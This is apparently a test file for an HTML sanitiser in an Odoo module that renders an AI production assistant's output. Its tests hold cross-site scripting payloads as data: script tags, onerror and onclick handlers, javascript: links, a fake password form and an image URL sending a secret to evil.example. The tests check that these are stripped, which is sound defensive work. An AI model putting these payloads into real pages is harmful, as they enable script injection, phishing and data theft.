import { describe, expect, test } from "@odoo/hoot";
import { toFragment, toHtml } from "@ai_production_assistant/utils/sanitise";

describe.current.tags("headless");

test("nothing loads, runs or asks", () => {
    const hostile = [
        "<script>alert(1)</script>",
        "<img src='https://evil.example/?q=secret' onerror='alert(1)'>",
        "<style>body{display:none}</style>",
        "<iframe src='https://evil.example'></iframe>",
        "<svg><animate onbegin='alert(1)'/></svg>",
        "<form action='https://evil.example'><input name='password'><button>Log in</button></form>",
        "<p onclick='alert(1)' style='position:fixed;background:url(//evil.example)' id='x'>text</p>",
        "<a href='javascript:alert(1)'>one</a><a href='data:text/html,x'>two</a>",
        "<a href='//evil.example'>three</a>",
        "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    ].join("");
    const html = toHtml(hostile);
    expect(html).not.toMatch(
        /script|<img|<style|style=|iframe|svg|<form|<input|<button|onclick|onerror|javascript|data:|evil|id=/
    );
    expect(html).toMatch(/<p>text<\/p>/);
    expect(html).toMatch(/<a>one<\/a>/);
});

test("a class of the screen cannot be borrowed", () => {
    const html = toHtml(
        '<div class="o_ai_production_drawer modal position-fixed o_ai_production_code">x</div>'
    );
    expect(html).toBe('<div class="o_ai_production_code">x</div>');
});

test("what the server's renderer writes passes", () => {
    const blocks = [
        '<p>Late <span class="o_ai_production_cite" data-cite="1">1</span></p>',
        '<div class="o_ai_production_table"><table class="table table-sm"><tbody><tr>' +
            '<td class="text-end">1</td></tr></tbody></table></div>',
        '<div class="o_ai_production_code" data-language="python"><div class="highlight">' +
            '<pre><code><span class="k">def</span></code></pre></div></div>',
        '<ul class="o_ai_production_tasks"><li class="o_ai_production_task_item">' +
            '<span class="o_ai_production_task o_ai_production_task_done">☑</span>a</li></ul>',
        '<p><span class="o_ai_production_claim o_ai_production_supported" data-claim="0">40</span>' +
            '<span class="o_ai_production_claim o_ai_production_computed" data-claim="1">41</span>' +
            '<span class="o_ai_production_claim o_ai_production_unsupported" data-claim="2">4</span>' +
            '<span class="o_ai_production_claim o_ai_production_contradicted" data-claim="13">5' +
            "</span></p>",
    ];
    for (const block of blocks) {
        const expected = document.createRange().createContextualFragment(block);
        expect(toFragment(block).isEqualNode(expected)).toBe(true, { message: block });
    }
});

test("a mark of a claim has a number and stands on a piece of text", () => {
    const junk = [
        '<span data-claim="x">a</span>',
        '<span data-claim="1 onclick=alert(1)">b</span>',
        '<span data-claim="-1">c</span>',
        '<span data-claim="1234567">d</span>',
        '<span data-claim="">e</span>',
        '<span data-claim="javascript:alert(1)">f</span>',
        '<p data-claim="1">g</p>',
        '<table data-claim="1"><tbody><tr><td data-claim="1">h</td></tr></tbody></table>',
    ];
    expect(toHtml(junk.join(""))).not.toMatch(/data-claim/);
    const classes = '<span class="o_ai_production_unsupported o_ai_production_lit">x</span>';
    expect(toHtml(classes)).toBe('<span class="o_ai_production_unsupported">x</span>');
    const dress = '<span class="o_ai_production_badge o_ai_production_good" role="button">x</span>';
    expect(toHtml(dress)).toBe('<span class="">x</span>');
});

test("links open apart and tell nothing", () => {
    const html = toHtml('<a href="https://odoo.example/x">x</a><a href="/odoo/m/3">y</a>');
    expect(html.match(/rel="noopener noreferrer nofollow"/g)).toHaveLength(2);
    expect(html.match(/target="_blank"/g)).toHaveLength(2);
    expect(html).toMatch(/href="\/odoo\/m\/3"/);
});
